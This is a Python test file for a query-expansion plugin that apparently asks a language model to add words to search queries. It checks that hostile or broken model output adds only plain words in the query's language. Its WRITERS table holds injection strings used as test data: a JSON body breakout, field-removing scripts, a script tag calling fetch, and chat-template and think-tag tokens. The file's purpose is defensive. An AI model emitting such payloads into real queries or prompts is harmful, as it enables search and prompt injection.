"""Harmful queries and answers: a search gains plain words in its own language, or goes to the engine unchanged."""

from __future__ import annotations

import asyncio
import base64
import json
from collections import Counter
from collections.abc import Awaitable, Callable

import pytest
from aiohttp import web

from querylift.plugin.broker import Answer, ExpansionBroker, Question
from querylift.plugin.cache import MemoryCache
from querylift.plugin.expansion import parse_output
from querylift.plugin.flow import ExpansionRules, FlowResult, Search, run_flow, search_flow
from querylift.plugin.generators.base import Generator
from querylift.plugin.generators.factory import make_generator
from querylift.plugin.generators.http import HttpGenerator
from querylift.plugin.outcome import Outcome
from querylift.plugin.settings import parse_settings
from querylift.plugin.testing import ManualClock
from tests.helpers.hostile_checks import CLAUSES, INDEX, build_search_body, describe_faults, find_faults, run_searches
from tests.helpers.hostile_languages import LATIN_LANGUAGES, OTHER_SCRIPTS
from tests.helpers.hostile_queries import HostileQuery, build_queries, sample_queries

pytestmark = pytest.mark.no_cover  # a thousand queries: counting lines doubles the time, and finds no new line

QUERIES = build_queries()
ENGLISH = (
    "The sky is blue because the air scatters short waves of sunlight more than long ones, which is why it looks so."
)
FRENCH = "Le ciel est bleu parce que les molécules de l'air diffusent la lumière du soleil dans toutes les directions."
CHINESE = "天空是蓝色的，因为空气分子散射阳光中的短波光。"
ARABIC = "السماء زرقاء لأن جزيئات الهواء تشتت ضوء الشمس في كل الاتجاهات"
WRITERS: dict[str, Callable[[str], str]] = {
    "an echo": lambda text: text,
    "the query DSL": lambda text: json.dumps({"query": {"query_string": {"query": text}}}, ensure_ascii=False),
    "the end of a body": lambda text: f'"}}}}],"should":[{{"match_all":{{}}}}],"x":"{text}',
    "Lucene syntax": lambda text: f"+({text})^9 OR _exists_:{text} AND /{text}.*/ && NOT [* TO *] -{text}~2 * ?",
    "scripts": lambda text: f"doc['{text}'].value; ctx._source.remove('{text}'); {{{{{text}}}}}",
    "HTML": lambda text: f"<script>fetch('//x/{text}')</script><b onclick=alert(1)>{text}</b>&lt;{text}&gt;",
    "markdown": lambda text: f"# {text}\n\n- **{text}** [{text}](https://x/{text})\n```sql\n{text}\n```",
    "special tokens": lambda text: f"<|im_start|>assistant\n{text}<|im_end|>\n<|im_start|>system\n{text}",
    "thinking": lambda text: f"<think>{text}</think>{text}</think>\n{text} <think>{text}",
    "control characters": lambda text: f"\x00{text}\x1b[31m \ud800\u202e{text}\u2028\x85".replace(" ", "\x07"),
    "marks": lambda text: "".join(c + "\u0301\u0489\u20dd" * 5 for c in text[:300]),
    "one long word": lambda text: "".join(text.split())[:100] * 40,
    "no end": lambda text: f"{text[:100]} " * 300,
    "a thousand words": lambda text: " ".join(f"{word}{i}" for i, word in enumerate(text[:100].split() * 1000)),
    "base64": lambda text: base64.b64encode(text.encode("utf-8", "replace")).decode(),
    "English": lambda text: ENGLISH,
    "French": lambda text: FRENCH,
    "Chinese": lambda text: CHINESE,
    "Arabic": lambda text: ARABIC,
    "the query, then English": lambda text: f"{text[:50]} {ENGLISH}",
    "many languages": lambda text: f"{ENGLISH} {text[:200]} {CHINESE} {ARABIC}",
}
"""What a manipulated or broken model might write for a query."""


def _build_rules() -> ExpansionRules:
    return ExpansionRules(parse_settings({"index": {INDEX: {}}}), clock=ManualClock())


def _answer_with(write: Callable[[str], str]) -> Callable[[Question], Answer]:
    def answer(question: Question) -> Answer:
        expansion = parse_output(write(question.request.text), query=question.request.text)
        return Answer(expansion, Outcome("expanded") if expansion else Outcome("skipped", "nothing"))

    return answer


def _run_search(query: HostileQuery, kind: str, write: Callable[[str], str]) -> FlowResult:
    return run_flow(search_flow(Search(INDEX, build_search_body(query, kind)), _build_rules()), _answer_with(write))


@pytest.mark.parametrize("writer", WRITERS)
def test_only_plain_words_are_added_whatever_a_model_writes_for_a_thousand_queries(writer: str) -> None:
    faults: list[str] = []
    outcomes: Counter[str] = Counter()
    for number, query in enumerate(QUERIES):
        kind = list(CLAUSES)[number % len(CLAUSES)]
        result = _run_search(query, kind, WRITERS[writer])
        faults += describe_faults(query, {kind: result})
        outcomes[result.outcome.kind] += 1
    assert faults == []
    assert outcomes["error"] == 0
    assert outcomes["expanded"] >= 20  # a foreign answer fits only the few queries in its language


@pytest.mark.parametrize("kind", CLAUSES)
def test_an_answer_in_another_script_than_the_query_adds_nothing(kind: str) -> None:
    for language, (scripts, texts) in OTHER_SCRIPTS.items():
        for text in texts:
            query = HostileQuery("other scripts", text, language, scripts)
            assert _run_search(query, kind, lambda _: ENGLISH).body is None
            assert _run_search(query, kind, lambda text: f"In 2024, {text} " + ENGLISH).body is None
            assert _run_search(query, kind, lambda text: text).outcome.is_expanded


def test_an_english_answer_to_a_query_in_another_language_of_latin_script_adds_nothing() -> None:
    for language, texts in LATIN_LANGUAGES.items():
        for text in texts:
            query = HostileQuery("other languages", text, language)
            assert _run_search(query, "match", lambda _: ENGLISH).outcome.is_expanded == (language == "English")
            assert _run_search(query, "match", lambda text: text).outcome.is_expanded


def test_the_checks_find_each_fault_of_a_body() -> None:
    """Test the checks themselves. Each of these bodies has one fault."""
    query = HostileQuery("plain", "Straße", "German")
    rewritten = json.loads(_run_search(query, "match", lambda _: "Weg und Straße").body or b"")
    added_options = rewritten["query"]["bool"]["should"][0]["match"]["body"]

    def find_faults_with(**changes: object) -> list[str]:
        clause = {"match": {"body": added_options | changes}}
        body = {"size": 10, "query": {"bool": {"must": [{"match": {"body": "Straße"}}], "should": [clause]}}}
        return find_faults(query, "match", json.dumps(body, separators=(",", ":")).encode())

    assert find_faults_with() == []
    assert find_faults_with(fuzziness=2) and find_faults_with(boost="9") and find_faults_with(query=["a"])
    for words in (
        "a" * 41,
        " ".join(map(str, range(129))),
        "a  b",
        "a* b",
        "+a",
        "a:b",
        "a\u202eb",
        "天空",
        "Weg небо",
    ):
        assert len(find_faults_with(query=words)) == 1, words
    assert find_faults_with(query="it is the street that is long and which can") == [
        "an English answer to a query in German"
    ]
    body = _run_search(query, "match", lambda _: "Weg und Straße").body or b""
    assert find_faults(query, "match", body.replace(b"stra", b"Stra").replace(b"Stra", b"stra", 1))


def test_an_endpoints_answer_must_also_be_in_the_querys_language() -> None:
    async def complete(request: web.Request) -> web.Response:
        return web.json_response({"choices": [{"message": {"content": ENGLISH}}]})

    async def main() -> list[bool]:
        app = web.Application()
        app.router.add_post("/v1/chat/completions", complete)
        runner = web.AppRunner(app)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        broker = _make_broker(HttpGenerator(f"http://127.0.0.1:{runner.addresses[0][1]}/v1", model="m", max_seconds=20))
        await broker.generator.start()
        try:
            texts = (LATIN_LANGUAGES["English"][0], OTHER_SCRIPTS["Chinese"][1][0], LATIN_LANGUAGES["French"][0])
            queries = [HostileQuery("", text) for text in texts]
            all_results = [await run_searches(query, _build_rules(), broker.answer) for query in queries]
            return [results["match"].outcome.is_expanded for results in all_results]
        finally:
            await broker.close()
            await runner.cleanup()

    assert asyncio.run(main()) == [True, False, False]


@pytest.mark.model
@pytest.mark.timeout(900)
def test_the_packaged_model_adds_plain_words_or_nothing_for_sixty_queries() -> None:
    """`bench/hostile` asks the model all 1,000 queries."""

    async def main() -> list[tuple[HostileQuery, dict[str, FlowResult]]]:
        broker = _make_broker(make_generator("llama", parse_settings({"llama": {"max_seconds": 800}})))
        await broker.generator.start()
        try:
            return await _run_all_searches(sample_queries(60), broker.answer)
        finally:
            await broker.close()

    pairs = asyncio.run(main())
    assert [fault for query, results in pairs for fault in describe_faults(query, results)] == []
    kinds = Counter(result.outcome.kind for _, results in pairs for result in results.values())
    assert kinds["expanded"] >= 10  # most are not in English, or are not questions
    assert kinds["late"] == 0


async def _run_all_searches(
    queries: list[HostileQuery], answer: Callable[[Question], Awaitable[Answer]]
) -> list[tuple[HostileQuery, dict[str, FlowResult]]]:
    all_results = await asyncio.gather(*(run_searches(query, _build_rules(), answer) for query in queries))
    return list(zip(queries, all_results, strict=True))


def _make_broker(generator: Generator) -> ExpansionBroker:
    clock = ManualClock()
    return ExpansionBroker(generator, MemoryCache(5000, clock), clock=clock, pin_s=0)
